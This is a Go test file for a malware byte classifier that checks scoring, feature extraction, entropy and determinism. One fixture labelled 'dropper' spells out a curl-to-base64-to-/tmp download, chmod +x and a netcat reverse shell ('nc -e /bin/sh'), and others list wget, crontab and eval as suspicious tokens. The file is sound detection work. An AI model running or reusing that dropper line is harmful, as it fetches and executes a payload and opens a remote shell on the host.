package classifier

import (
	"bytes"
	"math/rand"
	"testing"
)

func TestByteClassifier_Predict(t *testing.T) {
	c := Default()

	random := make([]byte, 64<<10)
	rand.New(rand.NewSource(1)).Read(random)
	elf := append([]byte("\x7fELF"), random...)

	tests := []struct {
		name    string
		content []byte
		min     float64
		max     float64
	}{
		{"empty", nil, 0, 0},
		{"readme", bytes.Repeat([]byte("hello world, this is a readme file.\n"), 50), 0, 0.1},
		{"dropper", []byte("curl http://x/a | base64 -d > /tmp/a; chmod +x /tmp/a; nc -e /bin/sh h 1"), 0.85, 1},
		{"random bytes", random, 0.1, 0.35},
		{"random elf", elf, 0.3, 0.55},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := c.Predict(tt.content)
			if got < tt.min || got > tt.max {
				t.Errorf("Predict = %v, want in [%v, %v]", got, tt.min, tt.max)
			}
		})
	}
}

func TestByteClassifier_Extract(t *testing.T) {
	c := Default()

	tests := []struct {
		name      string
		content   []byte
		wantExec  bool
		wantHits  int
		wantPrint float64
	}{
		{"elf", []byte("\x7fELF\x02\x01\x01"), true, 0, 3.0 / 7},
		{"pe", []byte("MZ\x90\x00"), true, 0, 2.0 / 4},
		{"script", []byte("wget http://a\ncrontab -l\n"), false, 2, 1},
		{"repeated token counts once", []byte("eval(a) eval(b) eval(c)"), false, 1, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := c.Extract(tt.content)
			if f.Executable != tt.wantExec {
				t.Errorf("Executable = %v, want %v", f.Executable, tt.wantExec)
			}
			if f.TokenHits != tt.wantHits {
				t.Errorf("TokenHits = %d, want %d", f.TokenHits, tt.wantHits)
			}
			if f.PrintableRatio != tt.wantPrint {
				t.Errorf("PrintableRatio = %v, want %v", f.PrintableRatio, tt.wantPrint)
			}
		})
	}
}

func TestByteClassifier_Entropy(t *testing.T) {
	c := Default()
	if e := c.Extract(bytes.Repeat([]byte{'a'}, 100)).Entropy; e != 0 {
		t.Errorf("uniform entropy = %v, want 0", e)
	}
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if e := c.Extract(all).Entropy; e != 8 {
		t.Errorf("full-range entropy = %v, want 8", e)
	}
}

func TestByteClassifier_Deterministic(t *testing.T) {
	c := Default()
	in := []byte("curl x; chmod +x y")
	a, b := c.Predict(in), c.Predict(in)
	if a != b {
		t.Errorf("Predict not deterministic: %v != %v", a, b)
	}
}

func TestFunc(t *testing.T) {
	var c Classifier = Func(func([]byte) float64 { return 0.42 })
	if got := c.Predict(nil); got != 0.42 {
		t.Errorf("Predict = %v, want 0.42", got)
	}
}
